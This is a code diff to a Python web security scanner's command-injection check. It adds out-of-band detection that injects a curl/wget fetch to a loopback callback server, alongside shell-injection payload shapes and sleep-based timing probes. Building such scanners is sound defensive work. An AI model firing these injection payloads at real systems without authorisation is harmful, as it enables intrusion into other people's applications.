@@ -3,13 +3,28 @@ token followed by the product can only appear if a shell ran it. Payloads only e
 
 A shell whose output never comes back (`os.system(... + x + " >> log")`) is found by time: a
 `$(sleep n)` answers n s later than the baseline, twice, and not
-with `sleep 0`. Sleeping is harmless, and one request is all a point that does not wait costs."""
+with `sleep 0`. Sleeping is harmless, and one request is all a point that does not wait costs.
+
+A handler that starts the shell and answers without waiting for it (node's `exec` with a
+callback or none) shows neither output nor time, on this request or a later one. What such a
+shell can still show is a fetch of auditor's callback server, so the same first blind request
+also carries `$(curl -s URL||wget -q -O- URL)`: the URL is on 127.0.0.1 (the callback server,
+only when the target itself is on loopback, so the fetch never leaves the machine's loopback)
+and its path is a one-time token followed by `$((a*b))`. The server seeing the token with the
+product proves a shell ran it: an app that merely fetches URLs found in its input (SSRF) would
+request the literal `$((a*b))`. The fetch writes nothing (output to stdout, an empty body that
+the substitution turns into nothing), and, like SSRF, no request waits for it: late ones are
+collected by `settle` at the end of the run."""
 
 from __future__ import annotations
 
+import time
+
+from auditor.probe.callback import CallbackServer
 from auditor.probe.checks.canary import delay_proof, fresh, numbers, token
-from auditor.probe.interface import Confirmation, InjectionPoint, PointCheck, ProbeContext, Sender
-from auditor.probe.profile import PointProfile, plain_echo
+from auditor.probe.interface import Confirmation, Exchange, InjectionPoint, PointCheck, ProbeContext, Sender
+from auditor.probe.profile import PointProfile, plain_echo, point_key
+from auditor.probe.safety import is_loopback, origin_of
 
 # The first three cover an unquoted, a single-quoted and a double-quoted context; the rest are
 # sent only when one of those was not answered like the harmless canary.
@@ -19,11 +34,20 @@ BLIND = ("{v}$(sleep {d})",)
 BLIND_LOCATIONS = ("query", "form", "json", "path")
 SHAPES = ("{v};{c}", "{v}';{c};'", '{v}";{c};"', "{v}|{c}", "{v}&&{c}", "{v}\n{c}", "$({c})", "`{c}`")
 FIRST = 3
+# The out-of-band fetch (see above). Its exact spelling is what the safety layer lets through
+# (safety.LOOPBACK_FETCH): a loopback URL, bounded time, output to stdout only.
+# No proxy either way, so a proxy set in the app's environment cannot carry the fetch off the machine.
+FETCH = "$(curl -s -m 3 --noproxy 127.0.0.1 {url}||wget -q -T 3 --no-proxy -O- {url})"
 
 
 class CommandInjection(PointCheck):
     name = "command"
     category = "command-injection"
+
+    SETTLE = 0.5  # seconds the run's end waits for late fetches, once for all of them
+
+    def __init__(self) -> None:
+        self.pending: list[tuple[str, Exchange, InjectionPoint]] = []  # (path canary, exchange, point)
 
     def worth(self, point: InjectionPoint, profile: PointProfile) -> bool:
         # A shell's output shows, or its failure does, for quotes or separators; a value of the
@@ -56,6 +80,12 @@ class CommandInjection(PointCheck):
             return None
         for shape in BLIND:
             slow = shape.format(v=value, d=f"{ctx.delay:g}")
+            fetch = self._fetch(ctx)
+            if fetch is not None:  # the first slow request also carries the fetch: no request more
+                first = sender.send(point, fetch[1] + slow)
+                self.pending.append((fetch[0], first, point))
+                if first.status <= 0 or first.elapsed < base.elapsed + 0.8 * ctx.delay:
+                    continue
             found = delay_proof(sender, point, slow, shape.format(v=value, d="0"), base.elapsed, ctx.delay)
             if found is not None:
                 return Confirmation(self.category, self.name,
@@ -63,3 +93,30 @@ class CommandInjection(PointCheck):
                                     f"{ctx.delay:g} s sleep delays the answer, twice, and a zero sleep does not)",
                                     found, slow, point, severity="critical")
         return None
+
+    @staticmethod
+    def _fetch(ctx: ProbeContext) -> tuple[str, str] | None:
+        """(what the callback server must see, the fetch to put before a value), or None when
+        there is no callback server or the target is not on loopback (127.0.0.1 would then be
+        the target's own machine, not auditor's)."""
+        server = ctx.callback
+        if not isinstance(server, CallbackServer) or not is_loopback(origin_of(ctx.origin)[1]):
+            return None
+        tok, (a, b) = token(), numbers(100, 999)
+        return f"{tok}{a * b}", FETCH.format(url=f"{server.url(tok)}$(({a}*{b}))")
+
+    def settle(self, ctx: ProbeContext) -> list[Confirmation]:
+        server = ctx.callback
+        if not isinstance(server, CallbackServer) or not self.pending:
+            return []
+        found: dict[tuple[str, str, str, str, bool], Confirmation] = {}
+        deadline = time.monotonic() + self.SETTLE
+        for needle, ex, point in self.pending:
+            if point_key(point) not in found and server.seen(needle, wait=max(0.0, deadline - time.monotonic())):
+                found[point_key(point)] = Confirmation(
+                    self.category, self.name,
+                    f"command injection (out of band): {point.label} reaches a shell that runs after the "
+                    "answer; it fetched auditor's callback server on 127.0.0.1 with a one-time token and "
+                    "the product of two random numbers the shell computed", ex, needle, point, severity="critical")
+        self.pending.clear()
+        return list(found.values())
